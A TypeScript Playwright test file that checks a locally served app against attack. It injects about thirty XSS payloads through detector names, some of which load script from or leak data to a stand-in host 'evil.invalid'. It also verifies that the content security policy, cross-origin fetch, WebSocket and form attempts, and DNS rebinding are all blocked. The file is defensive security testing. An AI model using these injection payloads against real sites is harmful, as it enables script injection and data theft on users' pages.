import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fakeDispatch } from '../support/doors/door-fixture.ts';
import { serveDoor, type ServedDoor } from '../support/doors/served-door.ts';
import { launchBrowser } from '../support/find-browser.ts';

/** The served app in a real browser: what other pages can do to it, and what a page of ours could be made to do. */

const HIT = 'document.title="hit"';
const PAYLOADS = [
  ...[`<img src=x onerror='${HIT}'>`, `<script>${HIT}</script>`, `<svg onload='${HIT}'>`, `<body onload='${HIT}'>`],
  ...[`<iframe srcdoc="<script>top.${HIT}</script>"></iframe>`, `<iframe src="javascript:top.${HIT}"></iframe>`],
  ...[`<details open ontoggle='${HIT}'>`, `<video src=x onerror='${HIT}'>`, `<audio src=x onerror='${HIT}'>`],
  ...[`<input autofocus onfocus='${HIT}'>`, `<select autofocus onfocus='${HIT}'>`, `<marquee onstart='${HIT}'>`],
  ...[
    `<object data="javascript:${HIT}"></object>`,
    `<embed src="javascript:${HIT}">`,
    `<link rel=stylesheet href=//evil.invalid>`,
  ],
  ...[`<script src="//evil.invalid/a.js"></script>`, `<script src="data:text/javascript,${HIT}"></script>`],
  ...[`<style onload='${HIT}'></style>`, `<style>@import '//evil.invalid'</style>`, `<base href="//evil.invalid/">`],
  ...[
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>1</script>">`,
    `<svg><script>${HIT}</script></svg>`,
  ],
  ...[`<math><mtext><img src=x onerror='${HIT}'></mtext></math>`, `<template><img src=x onerror='${HIT}'></template>`],
  ...[`"><img src=x onerror='${HIT}'>`, `'-${HIT}-'`, `javascript:${HIT}`, `<a href="javascript:${HIT}" id=a>x</a>`],
  ...[`<form action="javascript:${HIT}"><button id=a>x</button></form>`, `<img src="http://evil.invalid/?leak">`],
  ...[`<svg><animate onbegin='${HIT}' attributeName=x dur=1s>`, `<button popovertarget=x onbeforetoggle='${HIT}'>`],
];

let browser: Browser;
let served: ServedDoor;
let title = 'a detector';

beforeAll(async () => {
  browser = await launchBrowser();
  const { dispatch } = fakeDispatch(() => ({ detectors: [{ name: 'x', title }] }));
  served = await serveDoor({ dispatch }, join(import.meta.dirname, '../support/electron/fixture-window'));
}, 330_000);
afterAll(async () => {
  await browser?.close();
  await served?.close();
});

/** A browser that was let in, on our page. */
async function letIn(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(served.http.launchAddress());
  await page.waitForURL(`${served.http.origin}/`);
  return { context, page };
}

/** The page's title after it was shown a detector of this name. */
async function showTitle(page: Page, payload: string, waitMs = 20): Promise<string> {
  title = payload;
  await page.goto(`${served.http.origin}/`);
  await expect.poll(() => page.title()).not.toBe('fixture');
  await page.evaluate(() => document.getElementById('a')?.click());
  await page.waitForTimeout(waitMs);
  return page.title();
}

describe('a page of ours', () => {
  test('is opened by the launch address, from any page, and is isolated', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.setContent(`<meta http-equiv="refresh" content="0; url=${served.http.launchAddress()}">`);
    await page.waitForURL(`${served.http.origin}/`);
    await expect.poll(() => page.title()).toBe('reply');
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await page.evaluate(() => document.cookie)).toBe('');
    await context.close();
  });

  test(`runs none of ${PAYLOADS.length} scripts that come in as names, though it writes them into the page`, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    const { context, page } = await letIn();
    const foreign: string[] = [];
    page.on('response', (response) => {
      if (!response.url().startsWith(served.http.origin)) foreign.push(response.url());
    });
    for (const payload of PAYLOADS) {
      expect([payload, await showTitle(page, payload), page.url()]).toEqual([
        payload,
        'reply',
        `${served.http.origin}/`,
      ]);
    }
    expect(foreign.filter((url) => !url.startsWith('data:'))).toEqual([]);
    await context.close();
  }, 60_000);

  test('would run them without the content security policy, so the policy is what stops them', async () => {
    const { context, page } = await letIn();
    await page.route('**/*', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _policy, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    const hits: string[] = [];
    // what fails to load takes a while to say so on a loaded machine
    for (const payload of PAYLOADS.slice(0, 10))
      if ((await showTitle(page, payload, 250)) === 'hit') hits.push(payload);
    expect(hits.length).toBeGreaterThanOrEqual(5);
    await context.close();
  });
});

describe('another page, on another port of this machine', () => {
  let other: Server;
  let otherOrigin: string;
  beforeAll(async () => {
    other = createServer((_request, response) => response.setHeader('content-type', 'text/html').end('<body>'));
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  });
  afterAll(() => void other.close());

  test('reads nothing, calls nothing, hears nothing and frames nothing, though the browser was let in', async () => {
    const { context } = await letIn();
    const page = await context.newPage();
    await page.goto(otherOrigin);
    const statuses: number[] = [];
    page.on(
      'response',
      (response) => void (response.url().startsWith(served.http.origin) && statuses.push(response.status())),
    );
    const tried = await page.evaluate(async (origin) => {
      const outcome = (work: Promise<unknown>) =>
        work.then(
          (value) => `got ${String(value)}`,
          () => 'refused',
        );
      const json = { 'content-type': 'application/json', 'x-na64-twin': 'window' };
      const tag = <Name extends 'img' | 'iframe' | 'script'>(name: Name, src: string) => {
        const element = document.createElement(name);
        element.src = src;
        document.body.append(element);
        return new Promise((resolve, reject) => {
          element.onload = () => resolve(name);
          element.onerror = reject;
        });
      };
      return {
        read: await outcome(fetch(origin, { credentials: 'include' })),
        call: await outcome(
          fetch(`${origin}/api/jobs.list`, { method: 'POST', headers: json, body: '{}', credentials: 'include' }),
        ),
        blind: await outcome(
          fetch(`${origin}/api/jobs.list`, { method: 'POST', mode: 'no-cors', body: '{}', credentials: 'include' }),
        ),
        socket: await outcome(
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`${origin.replace('http', 'ws')}/api/jobs`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
        ),
        script: await outcome(tag('script', `${origin}/fixture.js`)),
        image: await outcome(tag('img', `${origin}/`)),
      };
    }, served.http.origin);
    expect(tried).toEqual({
      read: 'refused',
      call: 'refused',
      blind: 'refused',
      socket: 'refused',
      script: 'refused',
      image: 'refused',
    });
    expect(statuses.filter((status) => status < 400)).toEqual([]);

    await page.evaluate((origin) => {
      const frame = document.createElement('iframe');
      frame.src = `${origin}/`;
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${origin}/api/jobs.list` });
      document.body.append(form);
      form.submit();
    }, served.http.origin);
    await page.waitForURL(`${served.http.origin}/api/jobs.list`);
    expect(await page.textContent('body')).toContain('DOOR_REFUSED');
    expect(statuses.filter((status) => status < 400)).toEqual([]);
    await context.close();
  });

  test('a name that leads to this machine (DNS rebinding) leads nowhere', async () => {
    const rebound = await launchBrowser({ args: ['--host-resolver-rules=MAP evil.example 127.0.0.1'] });
    const page = await rebound.newPage();
    const response = await page.goto(served.http.origin.replace('127.0.0.1', 'evil.example'));
    expect(response?.status()).toBe(421);
    await rebound.close();
  });
});
